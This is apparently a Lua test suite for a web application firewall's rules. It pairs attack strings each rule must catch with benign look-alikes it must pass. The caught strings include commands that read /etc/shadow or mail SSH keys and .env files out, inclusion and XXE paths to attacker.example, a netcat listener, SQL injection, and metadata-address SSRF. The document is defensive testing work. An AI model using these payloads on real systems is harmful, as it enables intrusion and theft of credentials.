local rule_checks = require "rule_checks"

-- The hundred-and-ninety-ninth round (tests/edge_security/family_gen_blind_*.py of this round and the
-- open items of the last): the families found uncovered and the text beside them, value by value.
describe("edge.waf.rules hundred-and-ninety-ninth round on", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("commands: a filter reading a system directory, a tree searched for secrets, a command run as another user",
        function()
            caught_by(132105, { ";grep -r DB_PASSWORD /var/www", "&& head -c 200 /etc/shadow",
                "|grep -ri api_key .", "SAMPLE | su - db2inst1 -c 'db2 list tablespaces'", "x; su postgres -c psql",
                "SAMPLE; db2 list database directory" })
            clean({ "ps aux | grep nginx", "journalctl -u nginx | tail -n 50", "Ops engineer; grep and sed fan",
                "`grep -rn \"TODO\" src/ | wc -l` is my favourite", "we run DB2; db2 is old but fine",
                "sort by date | head of table" })
        end)

    it("RFI: a network path written with backslashes, which Windows and URL parsers read as slashes", function()
        caught_by(131130, { "\\\\attacker.example/shell.txt", "/\\attacker.example/shell.txt" })
        caught_by(131120, { "\\\\attacker.example@8080\\webdav\\inc.cfm" })
        clean({ "\\\\fileserver\\finance\\Q3 report.xlsx", "see notes.txt in the wiki", "a/b\\c.txt" })
    end)

    it("PHP mail(): sendmail's log option as a quoted argument of the call", function()
        caught_by(132240, { "mb_send_mail('a@b.c','x','y','','-X/var/www/html/log.php');" })
        clean({ "mb_send_mail('a@b.c','Hello','Body')", "the 'x' axis", "-x is the flag" })
    end)

    it("Liquid: a store's or site's global object, or any part of it, dumped whole through a JSON filter", function()
        caught_by(134100, { "{{ site.github | jsonify }}", "{{ shop.metafields | json }}",
            "{{ customer.addresses | json }}" })
        clean({ "{{ page.title | jsonify }}", "{{ site.title }}", "the shop json feed" })
    end)

    it("SQL: a sort direction that ends the query with a comment (the rest of an ORDER BY is cut)", function()
        caught_by(142190, { "created_at desc-- -", "created_at desc#", "name ASC --" })
        clean({ "price desc -- cheapest first", "sort by price desc", "name desc #2", "#desc" })
    end)

    it("SQL: a closed string then a boolean operator as a whole word, not a word it begins", function()
        caught_by(142100, { "admin' or 'a'='a", "x'or(1)=1", "1\" and 1 between 0 and 2" })
        clean({ "Kafka consumer lag on `orders.v1` is back to zero", "the 'android' build is green",
            "\"order\" is a reserved word" })
    end)

    it("Java: ProcessBuilder built from a list, as Kotlin, Scala and Groovy write it without new", function()
        caught_by(144100, { 'ProcessBuilder(listOf("sh", "-c", "id")).start()', 'ProcessBuilder(arrayOf("id"))',
            'ProcessBuilder(List.of("bash", "-c", "id"))' })
        clean({ "ProcessBuilder is how we spawn ffmpeg", "the builder (process) pattern" })
    end)

    it("templates: a GitHub Actions expression reading a context's property is a CI file's syntax", function()
        caught_by(134120, { "${{7*7}}", "${{ secrets }}", "${{ secrets.X }}${{ 7*7 }}" })
        clean({ "the step uses `${{ secrets.NPM_TOKEN }}`", "${{ github.event.pull_request.head.sha }}",
            "${{ matrix.node-version }}" })
    end)

    it("PHP: an object store's stream wrapper to a PHP archive or script", function()
        caught_by(130140, { "s3://attacker-bucket/payload.phar", "gs://attacker-bucket/shell.php" })
        clean({ "s3://data-lake/jobs/etl.py", "s3://bucket/exports/users.csv", "gs://ml-models/v3/model.pt" })
    end)

    it("SQL: EXEC of a procedure with its arguments in parentheses glued to the name, not a title before a note",
        function()
            caught_by(142230, { "exec dbms_lock.sleep(5)", "exec proc @p=1", "exec xp_dirtree(1)" })
            clean({ "Exec Offices (Floor 7)", "Exec Assistant (CEO office)" })
        end)

    it("embedded devices: their flash and configuration paths, and their settings read or written from a shell",
        function()
            caught_by(130110, { "/mnt/mtd/Config/passwd", "/dev/mtdblock3", "/var/config/lighttpd.user" })
            caught_by(132105, { "8.8.8.8 && nvram get http_passwd", ";uci show wireless", "|fw_printenv" })
            clean({ "/mnt/data/photos", "we set nvram; uci is nicer", "the MTD partition is full" })
        end)

    it("PHP: a php-fpm pool's directive, written with the setting's name in brackets", function()
        caught_by(133130, { "php_admin_value[allow_url_include]=On", "php_value[auto_prepend_file]=/tmp/x" })
        clean({ "php_admin_value[memory_limit]=256M", "php_value[upload_max_filesize] = 20M" })
    end)

    it("SQL: a number then || then a Unix time is a cookie's field list, not a tautology", function()
        caught_by(142250, { "1||1", "0 || 1", "1||1=1" })
        clean({ "1||1718000000", "42||1718000000||1717996400||c0ffee" })
    end)

    it("commands: busybox given any command to run (it always runs the applet it is given)", function()
        caught_by(132110, { "/bin/busybox id|", "busybox cat /etc/passwd", "busybox nc -l -p 4444" })
        clean({ "busybox is a multi-call binary", "the busybox image is tiny" })
    end)

    it("PHP: SimpleXML or DOM loading a remote document, and SimpleXMLElement instantiated from JSON", function()
        caught_by(132120, { "simplexml_load_file('http://attacker.example/xxe.xml');",
            "new SimpleXMLElement('http://attacker.example/x.xml', 0, true)",
            '{"SimpleXMLElement":{"data":"http://attacker.example/xxe.xml","options":2}}' })
        clean({ "simplexml_load_file is slow on big feeds", "we parse the feed with SimpleXMLElement" })
    end)

    it("SQL: a catalog read by any database's dbo schema, Access's system tables, the current database's name",
        function()
            caught_by(142160, { "northwind.dbo.customers", "[northwind].[dbo].[customers]", "msdb..sysjobs",
                "MSysObjects", "1=db_name()", "db_name/**/()" })
            clean({ "Northwind Outfitters", "the dbo schema", "a database (SQL) course" })
        end)

    it("SSRF: a metadata address given as a host or a URL, not named in a sentence about it", function()
        caught_by(131210, { "169.254.169.254", "169.254.169.254:80", "curl 169.254.169.254 -H x",
            "http://169.254.169.254/latest/meta-data/" })
        clean({ "IMDSv2 169.254.169.254 hop limit", "block 169.254.169.254 needs a token now" })
    end)

    it("commands: a file mailed out through the shell's input redirection", function()
        caught_by(132105, { "|mail attacker@example.org < /home/shop/orders.db|",
            "; mailx -s x a@b.example < ~/.ssh/id_rsa", "&& sendmail a@b.example < $HOME/.env" })
        clean({ "mail me at ann@example.org < 5pm please", "send mail to ann@example.org" })
    end)

    it("templates: Liquid's filters with literal arguments after a colon are a store's display formatting", function()
        caught_by(134100, { "{{ 7*7 }}", "{{ self | attr: \"x\" }}", "{{ x | default: self }}" })
        clean({ "{{ article.author | default: \"Staff\" }}", "{{ order.created_at | date: \"%b %d, %Y\" }}",
            "{{ x | replace: \"a\", \"b\" }}", "{{ product.title | truncate: 20 }}" })
    end)

    it("WordPress: an exec function hooked as a callback, and the constants that lift the admin's guards", function()
        caught_by(133110, { "add_filter('the_content','system');", "add_action('init', 'passthru')" })
        caught_by(133130, { "define('ALLOW_UNFILTERED_UPLOADS', true);", "define( 'DISALLOW_FILE_EDIT', false )",
            "phar.readonly=0" })
        clean({ "add_action('init', 'register_my_post_types');", "define('WP_DEBUG', false);",
            "phar.readonly is on in production" })
    end)

    it("files: TYPO3's configuration files, which hold its database password and encryption key", function()
        caught_by(130130, { "typo3conf/LocalConfiguration.php", "../typo3conf/AdditionalConfiguration.php" })
        clean({ "typo3conf is where the site config lives" })
    end)

    it("templates: a Spring bean in an expression, Caddy's request object, a view model dumped as JSON", function()
        caught_by(134120, { "${@systemProperties}", "#{@environment.getProperty('db.password')}" })
        caught_by(134100, { "{{.Req.Header}}", "{{ Model.ContentItem | json }}" })
        clean({ "email ${@} me", "{{ .Required }}", "the model json export" })
    end)

    it("PHP: a session's own serialized format, and a function name joined from array elements", function()
        caught_by(133120, { 'authUser|s:5:"admin";authUserID|i:1;', 'username|s:5:"admin";' })
        caught_by(133180, { "$a=explode(',','sys,tem');($a[0].$a[1])('id');" })
        clean({ "foo|bar;baz", "Red|Green|Blue", "($a[0] . $b[1]) is the sum" })
    end)

    it("SQL: information_schema read as a table's schema, not named in a sentence about it", function()
        caught_by(142160, { "union select table_name from information_schema.tables",
            "select * from information_schema", "1 union select 1 from `information_schema`.columns" })
        clean({ "who owns the information_schema permission grant for the BI tool?",
            "information_schema queries are slow on the big cluster, please cache them" })
    end)
end)
